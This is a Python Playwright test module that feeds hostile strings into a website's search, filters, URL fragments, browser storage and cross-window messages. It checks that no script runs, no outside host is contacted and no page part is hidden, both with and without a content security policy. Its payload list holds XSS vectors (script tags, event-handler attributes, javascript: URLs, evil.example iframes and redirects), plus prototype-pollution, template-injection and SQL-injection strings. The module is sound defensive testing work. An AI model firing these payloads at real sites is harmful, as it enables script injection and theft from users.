"""Hostile texts brought to the pages of a site in a browser: nothing of them runs, asks a stranger or hides the page.

They come by whatever a stranger, another site or another program can reach: addresses with their queries and fragments,
what is typed, what the browser has stored, messages of other windows. Each is tried under the policy as the header that
hosts send, and without any policy, so that nothing but the scripts' own care protects the page.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from random import Random
from urllib.parse import quote

from playwright.sync_api import Browser, BrowserContext
from playwright.sync_api import Error as BrowserError

from benchmarks.torture.counts import Counts
from macros.assets.policy import HEADERS
from macros.text.language import Language
from tests.support.page_kinds import MEETING, MISSING
from tests.support.server import serve
from tests.support.tab import Tab

TITLE = "Hostile texts in a browser"
RIGHT = ("nothing ran, nothing was hidden",)
LONGEST = 3_000  # letters in an address
_ENDS = ("", '"', "'", '">', "'>", "</title>", "</script>", "</textarea>", "-->", "]]>", "\\", "`", "&quot;>", "\u202e")
_RUNS = (
    "<script>ran=1</script>",
    "<script src=//evil.example/a.js></script>",
    "<img src=x onerror=ran=1>",
    "<img src=//evil.example/a.png>",
    "<svg onload=ran=1>",
    "<svg><script>ran=1</script></svg>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<base href=//evil.example/>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<meta http-equiv=refresh content=0;url=//evil.example/>",
    "<form action=//evil.example><input autofocus onfocus=ran=1>",
    "<details open ontoggle=ran=1>",
    "<a href=javascript:ran=1>a</a>",
    "<math><mi xlink:href=javascript:ran=1>",
    "<!-- ",
    "<plaintext>",
    "javascript:ran=1",
    "data:text/html,<script>opener.ran=1</script>",
    "//evil.example/",
    "https://evil.example/",
    "http://[",
    "&lt;script&gt;ran=1&lt;/script&gt;",
    "&#60;img src=x onerror=ran=1&#62;",
    "\\u003cscript>ran=1</script>",
    "${ran=1}",
    "{{constructor.constructor('ran=1')()}}",
    "__proto__",
    "constructor.prototype",
    "toString",
    '{"__proto__":{"ran":1}}',
    "*{display:none}",
    "%",
    "%E0%A4%A",
    "%00",
    "\x00\x1b[2J\x07",
    "\u202e\u2066\u200b\u3164",
    "\U000e0041\ufeff",
    "(((((.*)*)*)*)*)*$",
    "'||'1'='1",
    "đảng " * 400,
    "ạ̣̣̣̣̣̣̣" * 200,
)
_FACETS = ("kind", "year", "province", "person", "level", "topic", "sort", "style", "off", "__proto__", "constructor")
# What is on a page that nothing has happened to.
_STATE = """() => {
    const foreign = document.querySelectorAll(
        "iframe, object, embed, base, svg script, math, plaintext, body style, [style], [onerror], [onload], [onfocus], [ontoggle]");
    const leading = [...document.querySelectorAll("[href], [src], [action], [data]")].map((each) =>
        each.href?.baseVal ?? each.href ?? each.src ?? each.action ?? "");
    const parts = [...document.querySelectorAll("h1, main, header, footer")].filter((part) => part.checkVisibility());
    return {
        ran: window.ran !== undefined || {}.ran !== undefined || Object.keys(Object.prototype).length > 0,
        foreign: foreign.length,
        leading: leading.filter((each) => /^(javascript|data|vbscript):|^https?:..evil/i.test(each)).length,
        shown: parts.length,
    };
}"""  # noqa: E501
Bring = Callable[[Tab, str], None]


def payload(random: Random) -> str:
    """A hostile text."""
    parts = [random.choice(_ENDS) + random.choice(_RUNS) for _ in range(random.choice((1, 1, 1, 2)))]
    return random.choice(("", "", "đảng viên ", "%22%3E")) + "".join(parts)


def _searched(tab: Tab, text: str) -> None:
    tab.visit(f"search/?q={_written(text)}")
    _settle(tab)


def _filtered(tab: Tab, text: str) -> None:
    name = _FACETS[len(text) % len(_FACETS)]
    tab.visit(f"en/search/?q=cadres&{name}={_written(text)}&{_written(text)}=1&{name}[ran]=1")
    _settle(tab)


def _pasted(tab: Tab, text: str) -> None:
    tab.visit("")
    tab.page.keyboard.press("/")
    field = tab.page.locator("[data-search-dialog] input")
    field.wait_for()
    field.fill(text)
    tab.page.wait_for_timeout(150)
    tab.page.keyboard.press("Escape")


def _marked(tab: Tab, text: str) -> None:
    tab.visit(f"{MEETING}?h={_written(text)}|c")


def _fragment(tab: Tab, text: str) -> None:
    tab.page.goto("about:blank")  # else only the fragment would change
    tab.visit(f"{MEETING}#{text.replace(chr(0), '')}")
    tab.page.mouse.wheel(0, 900)


def _nowhere(tab: Tab, text: str) -> None:
    tab.visit(MISSING + quote(text[:200], safe="") + f"?{_written(text)}")


def _edited(tab: Tab, text: str) -> None:
    tab.visit(f"edit/?record={_written(text)}&new={_written(text)}#{text.replace(chr(0), '')}")


def _offline(tab: Tab, text: str) -> None:
    tab.visit(f"offline/?page={_written(text)}")


def _stored(tab: Tab, text: str) -> None:
    """What another page of this host may have stored, and the state of the history."""
    tab.visit("search/?q=c")
    tab.page.evaluate(
        """text => {
            for (const store of [localStorage, sessionStorage]) {
                store.setItem("scheme", text);
                for (const key of [`${new URL(".", location.href).href} draft meetings/x`, text]) store.setItem(key, text);
            }
            history.replaceState({ shown: text, top: text }, "");
            window.name = text;
        }""",  # noqa: E501
        text,
    )
    tab.page.reload()
    _settle(tab)
    tab.page.evaluate("() => { localStorage.clear(); sessionStorage.clear(); }")


def _message(tab: Tab, text: str) -> None:
    tab.visit(MEETING)
    tab.page.evaluate(
        "text => { postMessage(text, '*'); postMessage({ request: 1, answer: text, kind: text }, '*'); }", text
    )


WAYS: dict[str, Bring] = {
    "words of a search": _searched,
    "filters of a search": _filtered,
    "pasted into the search": _pasted,
    "words to mark": _marked,
    "fragment": _fragment,
    "address of no page": _nowhere,
    "address of the form for editing": _edited,
    "address of the page shown offline": _offline,
    "stored in the browser": _stored,
    "message of another window": _message,
}


def _written(text: str) -> str:
    """In an address: the worst that browsers let pass, malformed escapes among them."""
    return quote(text[:LONGEST], safe="/:'()*!{}[]$%" if "%" in text else "")


def _settle(tab: Tab) -> None:
    tab.page.wait_for_function("() => document.querySelector('ol[data-results]')?.getAttribute('aria-busy') === null")


class Browsing:
    """A site in a browser; `counts` says how each way of bringing a hostile text ended."""

    def __init__(self, browser: Browser, folder: Path, seed: int) -> None:
        self.browser = browser
        self.folder = folder
        self.random = Random(seed)
        self.counts = Counts()
        self.reported: list[str] = []

    def bring(self, times: int) -> None:
        """So many texts in each way, each with the policy as a header and without any."""
        texts = [(name, payload(self.random)) for name in WAYS for _ in range(times)]
        for label, tab in self._tabs():
            whole = {name: self._state(tab, name, "c") for name in WAYS}
            for name, text in texts:
                self._judge(f"{name}, {label}", repr(text), tab, whole[name], lambda: WAYS[name](tab, text))  # noqa: B023

    def walk(self, paths: list[str]) -> None:
        """The pages of a site whose data hold such texts."""
        for label, tab in self._tabs():
            for path in paths:
                for language in Language:
                    address = language.prefix + path
                    tab.visit(address)
                    whole = tab.page.evaluate(_STATE) | {"ran": False, "leading": 0}
                    self._judge(f"texts of the data, {label}", address, tab, whole, lambda: None)

    def _tabs(self) -> Iterator[tuple[str, Tab]]:
        for label, policy in (("policy", HEADERS["Content-Security-Policy"]), ("no policy", "")):
            with serve(self.folder, policy) as address, self._context(not policy) as context:
                yield label, Tab(context, address)

    @contextmanager
    def _context(self, bare: bool) -> Iterator[BrowserContext]:
        context = self.browser.new_context(bypass_csp=bare, service_workers="block")
        context.set_default_timeout(30_000)
        try:
            yield context
        finally:
            context.close()

    def _state(self, tab: Tab, name: str, text: str) -> dict[str, int]:
        WAYS[name](tab, text)
        found: dict[str, int] = tab.page.evaluate(_STATE)
        return found

    def _judge(self, kind: str, what: str, tab: Tab, whole: dict[str, int], bring: Callable[[], None]) -> None:
        tab.errors.clear()
        tab.requests.clear()
        try:
            bring()
            found = tab.page.evaluate(_STATE)
        except BrowserError as error:
            tab.page.goto("about:blank")
            self._count(kind, "the page was not there in time", what, str(error))
            return
        wrong = {
            "something ran": found["ran"] or found["foreign"] != whole["foreign"] or bool(found["leading"]),
            "a stranger was asked": bool(tab.strangers) or not tab.page.url.startswith(tab.address),
            "something was hidden": found["shown"] != whole["shown"],
            "an error of a script": bool(tab.errors),
        }
        ended = next((name for name, is_so in wrong.items() if is_so), RIGHT[0])
        self._count(kind, ended, what, f"{found} {whole} {tab.strangers} {tab.errors}")

    def _count(self, kind: str, ended: str, what: str, said: str) -> None:
        self.counts[kind, ended] += 1
        if ended not in RIGHT:
            self.reported.append(f"{kind}: {ended}: {what}: {said}")
